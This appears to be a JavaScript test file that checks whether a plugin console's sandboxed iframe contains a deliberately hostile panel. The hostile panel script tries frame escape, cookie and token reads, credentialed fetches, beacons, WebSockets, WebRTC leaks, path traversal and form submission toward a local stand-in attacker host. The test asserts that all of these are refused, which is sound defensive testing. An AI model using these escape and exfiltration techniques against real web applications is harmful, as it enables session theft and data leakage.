/** Panels of plugins in the real console: one as it should be, and one that tries to get out of its frame. */

import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import http from 'node:http';
import { after, before, test } from 'node:test';
import { goTo, launch, logIn, user } from './browser.mjs';
import { Instance } from './instance.mjs';
import { panelJar } from './plugins.mjs';

let instance;
let browser;
let someone;
/** A host of the attacker, which counts who reaches it. */
let elsewhere;
let packets;
const arrived = [];

before(async () => {
  elsewhere = http.createServer((request, response) => {
    arrived.push(request.url);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('got it');
  });
  await new Promise((done) => elsewhere.listen(0, '127.0.0.1', done));
  packets = dgram.createSocket('udp4', () => arrived.push('a packet'));
  await new Promise((done) => packets.bind(0, '127.0.0.1', done));
  [instance, browser] = await Promise.all([Instance.start(), launch()]);
  someone = await user(browser, instance.url);
  // An administrator has most to lose.
  await logIn(someone, await instance.token('root', 'admin'));
});

after(async () => {
  await browser?.close();
  await instance?.stop();
  elsewhere?.close();
  packets?.close();
});

test('a plugin shows its panel in a frame without an origin', async () => {
  const { page } = someone;
  await instance.command(
    'deploy',
    panelJar(instance, 'org.acme.quota', 'Quota', `
      const { plugin } = await hookline.hello;
      const stats = await hookline.read('/v1/stats');
      this.textContent = plugin + ' sees generation ' + stats.generation;`),
  );
  await goTo(someone, 'panels/org.acme.quota');
  await page.frameLocator('iframe.panel').getByText(/^org\.acme\.quota sees generation \d+$/).waitFor();
  assert.equal(await page.locator('iframe.panel').getAttribute('sandbox'), 'allow-scripts');
});

test('a hostile panel reaches neither the console, nor the session, nor a network, nor the window', async () => {
  const { page, context } = someone;
  const evil = `http://127.0.0.1:${elsewhere.address().port}`;
  await instance.command(
    'deploy',
    panelJar(instance, 'org.acme.hostile', 'Hostile', `
      await hookline.hello;
      const results = {};
      const attempt = async (name, act) => {
        try { results[name] = 'REACHED ' + String(await act()); } catch (e) { results[name] = 'refused'; }
      };
      const loaded = (element, set) => new Promise((done, failed) => {
        element.onload = () => done('loaded');
        element.onerror = () => failed(new Error('refused'));
        set(element);
        document.body.append(element);
      });
      await attempt('parent document', () => parent.document.title);
      await attempt('parent location', () => parent.location.href);
      await attempt('parent variable', () => parent.hookline.toString());
      await attempt('top navigation', () => { top.location.href = '${evil}/top'; return 'navigated'; });
      await attempt('cookie', () => document.cookie);
      await attempt('local storage', () => localStorage.length);
      await attempt('indexed db', () => indexedDB.open('x').toString());
      await attempt('image of own host', () => loaded(new Image(), (it) => { it.src = '/v1/session'; }));
      await attempt('fetch own host', () => fetch('/v1/tokens', { credentials: 'include' }).then((a) => a.status));
      await attempt('fetch own host, opaque', () => fetch('/v1/changes', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then((a) => a.type));
      await attempt('fetch', () => fetch('${evil}/fetch', { mode: 'no-cors' }).then((a) => a.type));
      // A beacon's answer does not tell a refusal, nor does a form's: see who arrived.
      navigator.sendBeacon('${evil}/beacon', 'x');
      await attempt('image', () => loaded(new Image(), (it) => { it.src = '${evil}/image'; }));
      await attempt('script', () => loaded(document.createElement('script'), (it) => { it.src = '${evil}/script.js'; }));
      await attempt('eval', () => eval('1 + 1'));
      await attempt('worker', () => new Promise((done, failed) => {
        const worker = new Worker('data:text/javascript,postMessage(1)');
        worker.onmessage = done;
        worker.onerror = () => failed(new Error('refused'));
      }));
      await attempt('web socket', () => new Promise((done, failed) => {
        const socket = new WebSocket('${evil.replace('http', 'ws')}/socket');
        socket.onopen = done;
        socket.onerror = () => failed(new Error('refused'));
      }));
      await attempt('popup', () => { if (!window.open('${evil}/popup')) { throw new Error('refused'); } return 'opened'; });
      await attempt('peer connection', async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${packets.address().port}' }] });
        const gathered = new Promise((done) => peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && done()));
        const candidates = [];
        peer.onicecandidate = ({ candidate }) => candidate?.candidate && candidates.push(candidate.candidate);
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
        await gathered;
        if (candidates.length === 0) { throw new Error('refused'); }
        return candidates.join(' | ');
      });
      await attempt('nested frame', () => {
        const nested = document.createElement('iframe');
        document.body.append(nested);
        return new nested.contentWindow.RTCPeerConnection().connectionState;
      });
      for (const path of ['/v1/tokens', '/v1/audit', '/v1/session', '/v1/configurations/io.hookline.plugin.apikey', '/v1/points/../tokens', '/v1/stats?x', 'v1/stats', '//127.0.0.1/v1/stats']) {
        await attempt('read ' + path, () => hookline.read(path));
      }
      await attempt('submit', () => {
        const form = document.createElement('form');
        form.action = '${evil}/form';
        form.target = '_top';
        document.body.append(form);
        form.submit();
        throw new Error('refused');
      });
      // Messages that are none of the contract.
      for (const message of [null, 1, 'x', {}, { hookline: 1 }, { hookline: 1, type: 'read', id: 0 }, { hookline: 1, type: 'height', height: 1e9 }, { hookline: 1, type: 'change', path: '/v1/changes' }]) {
        parent.postMessage(message, '*');
      }
      const said = document.createElement('pre');
      said.id = 'results';
      said.textContent = JSON.stringify(results);
      this.append(said);`),
  );
  await goTo(someone, 'panels/org.acme.hostile');
  const results = JSON.parse(await page.frameLocator('iframe.panel').locator('#results').innerText());
  assert.ok(Object.keys(results).length >= 25, JSON.stringify(results));
  assert.deepEqual(Object.entries(results).filter(([, result]) => result !== 'refused'), []);
  assert.equal(page.url(), `${instance.url}/#/panels/org.acme.hostile`);
  assert.equal(context.pages().length, 1);
  assert.ok(Number(await page.locator('iframe.panel').getAttribute('height')) <= 2000);
  // The console is as it was, and the session lives.
  await goTo(someone, 'history');
  await page.getByRole('link', { name: 'Set 1' }).waitFor();
  assert.deepEqual(arrived, []);
});

test('a hostile panel that leaves its page gets no other host into the frame', async () => {
  const { page } = someone;
  await instance.command(
    'deploy',
    panelJar(instance, 'org.acme.leaving', 'Leaving', `
      await hookline.hello;
      location.href = 'http://127.0.0.1:${elsewhere.address().port}/frame';`),
  );
  const refused = page.waitForEvent('console', (message) => /frame-src/.test(message.text()));
  await goTo(someone, 'panels/org.acme.leaving');
  await refused;
  assert.equal(page.url(), `${instance.url}/#/panels/org.acme.leaving`);
  assert.deepEqual(arrived, []);
});
